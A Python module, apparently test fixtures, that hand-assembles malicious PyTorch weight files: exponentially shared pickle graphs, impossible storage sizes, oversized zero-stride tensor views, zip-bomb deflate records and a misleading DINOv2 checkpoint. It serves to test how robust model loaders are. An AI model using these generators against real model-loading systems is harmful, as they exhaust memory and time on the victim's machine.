"""Crafted weight files, each a few kB on disk, that cost a careless reader time or memory.

The pickles are assembled opcode by opcode (protocol 2, what torch writes) so each file says exactly
what the attack needs: a module graph that shares its nodes, a storage of an impossible size, a
tensor view wider than its data. Records can be written deflated with any claimed size.
"""
from __future__ import annotations

import struct
import zlib
from pathlib import Path
from typing import Dict, Iterable, List, Tuple, Union

MODULE = '__torch__.m'
NODE_CODE = b'class Node(Module):\n  __parameters__ = ["weight", ]\n  __buffers__ = []\n  weight : Tensor\n'
Record = Union[bytes, Tuple[str, int]]  # bytes (stored) or ('deflate-zeros'|'deflate-spaces', claimed size)


# ------------------------------------------------------------------ pickle assembly
def text(s: str) -> bytes:
    b = s.encode()
    return b'X' + struct.pack('<I', len(b)) + b


def integer(n: int) -> bytes:
    body = n.to_bytes((n.bit_length() + 8) // 8 or 1, 'little', signed=True)
    return b'\x8a' + bytes([len(body)]) + body  # LONG1


def real(x: float) -> bytes:
    return b'G' + struct.pack('>d', x)  # BINFLOAT


def put(i: int) -> bytes:
    return b'r' + struct.pack('<I', i)  # LONG_BINPUT


def get(i: int) -> bytes:
    return b'j' + struct.pack('<I', i)  # LONG_BINGET


def tup(items: Iterable[bytes]) -> bytes:
    return b'(' + b''.join(items) + b't'


def tensor(key: str, numel: Union[int, float], size: List[int], stride: List[int], dtype='FloatStorage') -> bytes:
    """``torch._utils._rebuild_tensor_v2(storage, 0, size, stride, False, OrderedDict())``."""
    pid = tup([text('storage'), f'ctorch\n{dtype}\n'.encode(), text(key), text('cpu'),
               real(numel) if isinstance(numel, float) else integer(numel)]) + b'Q'  # BINPERSID
    args = tup([pid, integer(0), tup(integer(s) for s in size), tup(integer(s) for s in stride), b'\x89',
                b'ccollections\nOrderedDict\n)R'])
    return b'ctorch._utils\n_rebuild_tensor_v2\n' + args + b'R'


def node(attributes: Dict[str, bytes]) -> bytes:
    """A ``__torch__.m.Node`` object with these attribute opcodes as its state."""
    items = b''.join(text(k) + v for k, v in attributes.items())
    return f'c{MODULE}\nNode\n'.encode() + b')\x81}(' + items + b'ub'  # NEWOBJ, SETITEMS, BUILD


def program(body: bytes) -> bytes:
    return b'\x80\x02' + body + b'.'


def dag_pickle(depth: int) -> bytes:
    """Each level's two attributes are the same object one level down: 2**depth paths, ~50 bytes a level."""
    out = node({}) + put(0)
    for level in range(1, depth + 1):
        out += node({'a': get(level - 1), 'b': get(level - 1)}) + put(level)
    return program(out)


# ------------------------------------------------------------------ archive assembly
def _deflated(fill: bytes, size: int) -> Tuple[bytes, int]:
    """(raw deflate stream, CRC) of ``size`` bytes of ``fill``, made in milliseconds.

    After a full flush the compressor starts afresh, so every MiB of the same input deflates to the
    same bytes: compress one MiB once and repeat it.
    """
    chunk = (fill * ((1 << 20) // len(fill) + 1))[:1 << 20]
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = comp.compress(chunk) + comp.flush(zlib.Z_FULL_FLUSH)
    whole, rest = divmod(size, len(chunk))
    stream, crc = piece * whole, 0
    for _ in range(whole):
        crc = zlib.crc32(chunk, crc)
    tail = chunk[:rest]
    stream += comp.compress(tail) + comp.flush()
    return stream, zlib.crc32(tail, crc)


def write_zip(path: Path, records: Dict[str, Record], root: str = 'archive') -> Path:
    """A zip archive (no zip64) with stored or deflated records, written byte by byte."""
    out, central = bytearray(), bytearray()
    for name, data in records.items():
        full = f'{root}/{name}'.encode()
        if isinstance(data, bytes):
            method, stream, crc, size = 0, data, zlib.crc32(data), len(data)
        else:
            kind, size = data
            method = 8
            stream, crc = _deflated(b'\0' if kind == 'deflate-zeros' else b' \n', size)
        fields = (20, 0, method, 0, 0x21, crc, len(stream), size, len(full), 0)
        central += struct.pack('<IH', 0x02014B50, 20) + struct.pack('<HHHHHIIIHH', *fields) + \
            struct.pack('<HHHII', 0, 0, 0, 0, len(out)) + full
        out += struct.pack('<I', 0x04034B50) + struct.pack('<HHHHHIIIHH', *fields) + full + stream
    end = struct.pack('<IHHHHIIH', 0x06054B50, 0, 0, len(records), len(records), len(central), len(out), 0)
    path.write_bytes(bytes(out + central + end))
    return path


def torchscript(path: Path, pkl: bytes, storages: Dict[str, Record], code: bytes = NODE_CODE,
                extra: Dict[str, Record] | None = None) -> Path:
    records: Dict[str, Record] = {'data.pkl': pkl, 'code/__torch__/m.py': code, 'byteorder': b'little',
                                  'version': b'3\n'}
    records.update({f'data/{k}': v for k, v in storages.items()})
    records.update(extra or {})
    return write_zip(path, records)


def weight_pickle(numel: Union[int, float], size: List[int], stride: List[int]) -> bytes:
    return program(node({'weight': tensor('0', numel, size, stride)}))


def text_tower_pickle(width: int, layers: int, embed_dim: int = 512) -> bytes:
    """Every tensor of a CLIP text tower as a zero-stride view of one float: a kB file, any width."""
    def view(shape):
        return tensor('0', 1, list(shape), [0] * len(shape))
    block = {'ln_1': {'weight': (width,), 'bias': (width,)}, 'ln_2': {'weight': (width,), 'bias': (width,)},
             'attn': {'in_proj_weight': (3 * width, width), 'in_proj_bias': (3 * width,)},
             'attn.out_proj': {'weight': (width, width), 'bias': (width,)},
             'mlp.c_fc': {'weight': (4 * width, width), 'bias': (4 * width,)},
             'mlp.c_proj': {'weight': (width, 4 * width), 'bias': (width,)}}
    tensors = {'token_embedding.weight': (49408, width), 'positional_embedding': (77, width),
               'ln_final.weight': (width,), 'ln_final.bias': (width,), 'text_projection': (width, embed_dim)}
    for i in range(layers):
        for sub, params in block.items():
            tensors.update({f'transformer.resblocks.{i}.{sub}.{p}': s for p, s in params.items()})
    # flat: one Node whose parameters are named with dots is not a module tree; build the tree instead
    tree: Dict = {}
    for key, shape in tensors.items():
        *parents, leaf = key.split('.')
        at = tree
        for p in parents:
            at = at.setdefault(p, {})
        at[leaf] = shape

    def emit(sub: Dict) -> bytes:
        return node({k: (emit(v) if isinstance(v, dict) else view(v)) for k, v in sub.items()})
    return program(emit(tree))


def any_param_code() -> bytes:
    """A declaration that makes every attribute name the text tower uses a parameter of Node."""
    names = ['weight', 'bias', 'in_proj_weight', 'in_proj_bias', 'positional_embedding', 'text_projection']
    listed = ', '.join(f'"{n}"' for n in names)
    return f'class Node(Module):\n  __parameters__ = [{listed}, ]\n  __buffers__ = []\n'.encode()


def dinov2_without_blocks(path: Path) -> Path:
    """A DINOv2 ViT-L file (width 1024, 24 blocks) whose only block tensor is one norm of block 23: the
    arch reads as the published ViT-L, the file is ~0.6 MB (uint8 patch weights)."""
    import torch

    dim = 1024
    sd = {'cls_token': torch.zeros(1, 1, dim), 'register_tokens': torch.zeros(1, 4, dim),
          'mask_token': torch.zeros(1, dim), 'pos_embed': torch.zeros(1, 2, dim),
          'patch_embed.proj.weight': torch.zeros(dim, 3, 14, 14, dtype=torch.uint8),
          'patch_embed.proj.bias': torch.zeros(dim), 'norm.weight': torch.zeros(dim), 'norm.bias': torch.zeros(dim),
          'blocks.23.norm1.weight': torch.zeros(dim)}
    torch.save(sd, path)
    return path
